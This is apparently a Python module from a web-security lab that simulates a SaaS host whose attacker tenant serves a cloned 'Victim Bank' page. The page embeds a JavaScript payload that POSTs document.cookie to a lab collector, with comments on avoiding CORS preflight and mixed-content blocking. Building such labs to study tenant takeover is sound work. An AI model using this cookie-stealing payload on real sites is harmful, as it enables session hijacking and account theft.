"""The SaaS provider's app: one page per tenant, chosen by the request's host.

The attacker is a tenant too. For the victim's names it serves a copy of Victim Bank's
home page (bank.home, the same renderer as the victim's) with the payload, which sends
`document.cookie` to the collector.
"""
from __future__ import annotations

import html
import json

from aiohttp import web

from lab.hostnorm import HostError, normalize
from lab.origins import bank
from lab.origins.collector import collector_names
from lab.origins.common import html_response
from lab.topology import Origin, World


def collector_urls(world: World) -> list[str]:
    """Where the payload sends what it steals: the collector over https, by its lab names
    first, then by its loopback address (a browser that does not follow the lab's DNS).

    https because the payload runs on an https page: a browser blocks an http:// request
    from it as mixed content everywhere but on 127.0.0.0/8."""
    collector = next((o for o in world.origins if o.kind == "collector"), None)
    if collector is None:
        return []
    return [f"https://{f'[{n}]' if ':' in n else n}:{collector.port}/collect" for n in collector_names(collector, world)]


_PAYLOAD_JS = """
(() => {
  const urls = %s;
  const body = JSON.stringify({cookie: document.cookie, origin: location.origin, href: location.href,
                               time: new Date().toISOString()});
  // text/plain keeps this a simple request (no CORS preflight); the collector answers with
  // Access-Control-Allow-Origin, so the browser reads the answer and shows the request succeeded.
  const send = (i) => {
    if (i < urls.length)
      fetch(urls[i], {method: "POST", headers: {"Content-Type": "text/plain"}, body}).catch(() => send(i + 1));
  };
  send(0);
})();
"""


def payload(world: World) -> str:
    return _PAYLOAD_JS % json.dumps(collector_urls(world)).replace("</", "<\\/")


def _plain(title: str, body: str) -> str:
    return (f"<!doctype html><html><head><meta charset='utf-8'><link rel='icon' href='data:,'>"
            f"<title>{html.escape(title)}</title></head><body>{body}</body></html>")


def routes(app: web.Application, origin: Origin, world: World) -> None:
    zones = [z.name for z in world.zones if z.origin == origin.name]
    own = _plain(f"{origin.name} SaaS", f"<h1>SaaS application</h1><p>{html.escape(', '.join(zones) or origin.name)}"
                                        "</p><p>Tenants bring their own hostnames.</p>")
    # Pages are rendered once per tenant host: a request only looks one up.
    pages: dict[str, str] = {}
    for tenant in origin.tenants:
        for host in tenant.hosts:
            if tenant.payload:
                pages[host] = bank.home(origin.name, script=payload(world))
            else:
                pages[host] = _plain(host, f"<h1>{html.escape(tenant.name)}</h1><p>Welcome to {html.escape(host)}, "
                                           "a shop hosted on the SaaS app.</p>")

    async def home(request: web.Request) -> web.Response:
        try:  # the Host header as sent; request.host would fall back to a slow getfqdn()
            host = normalize(request.headers.get("Host", ""))
        except HostError:
            host = ""
        return html_response(pages.get(host, own))

    app.router.add_get("/", home)
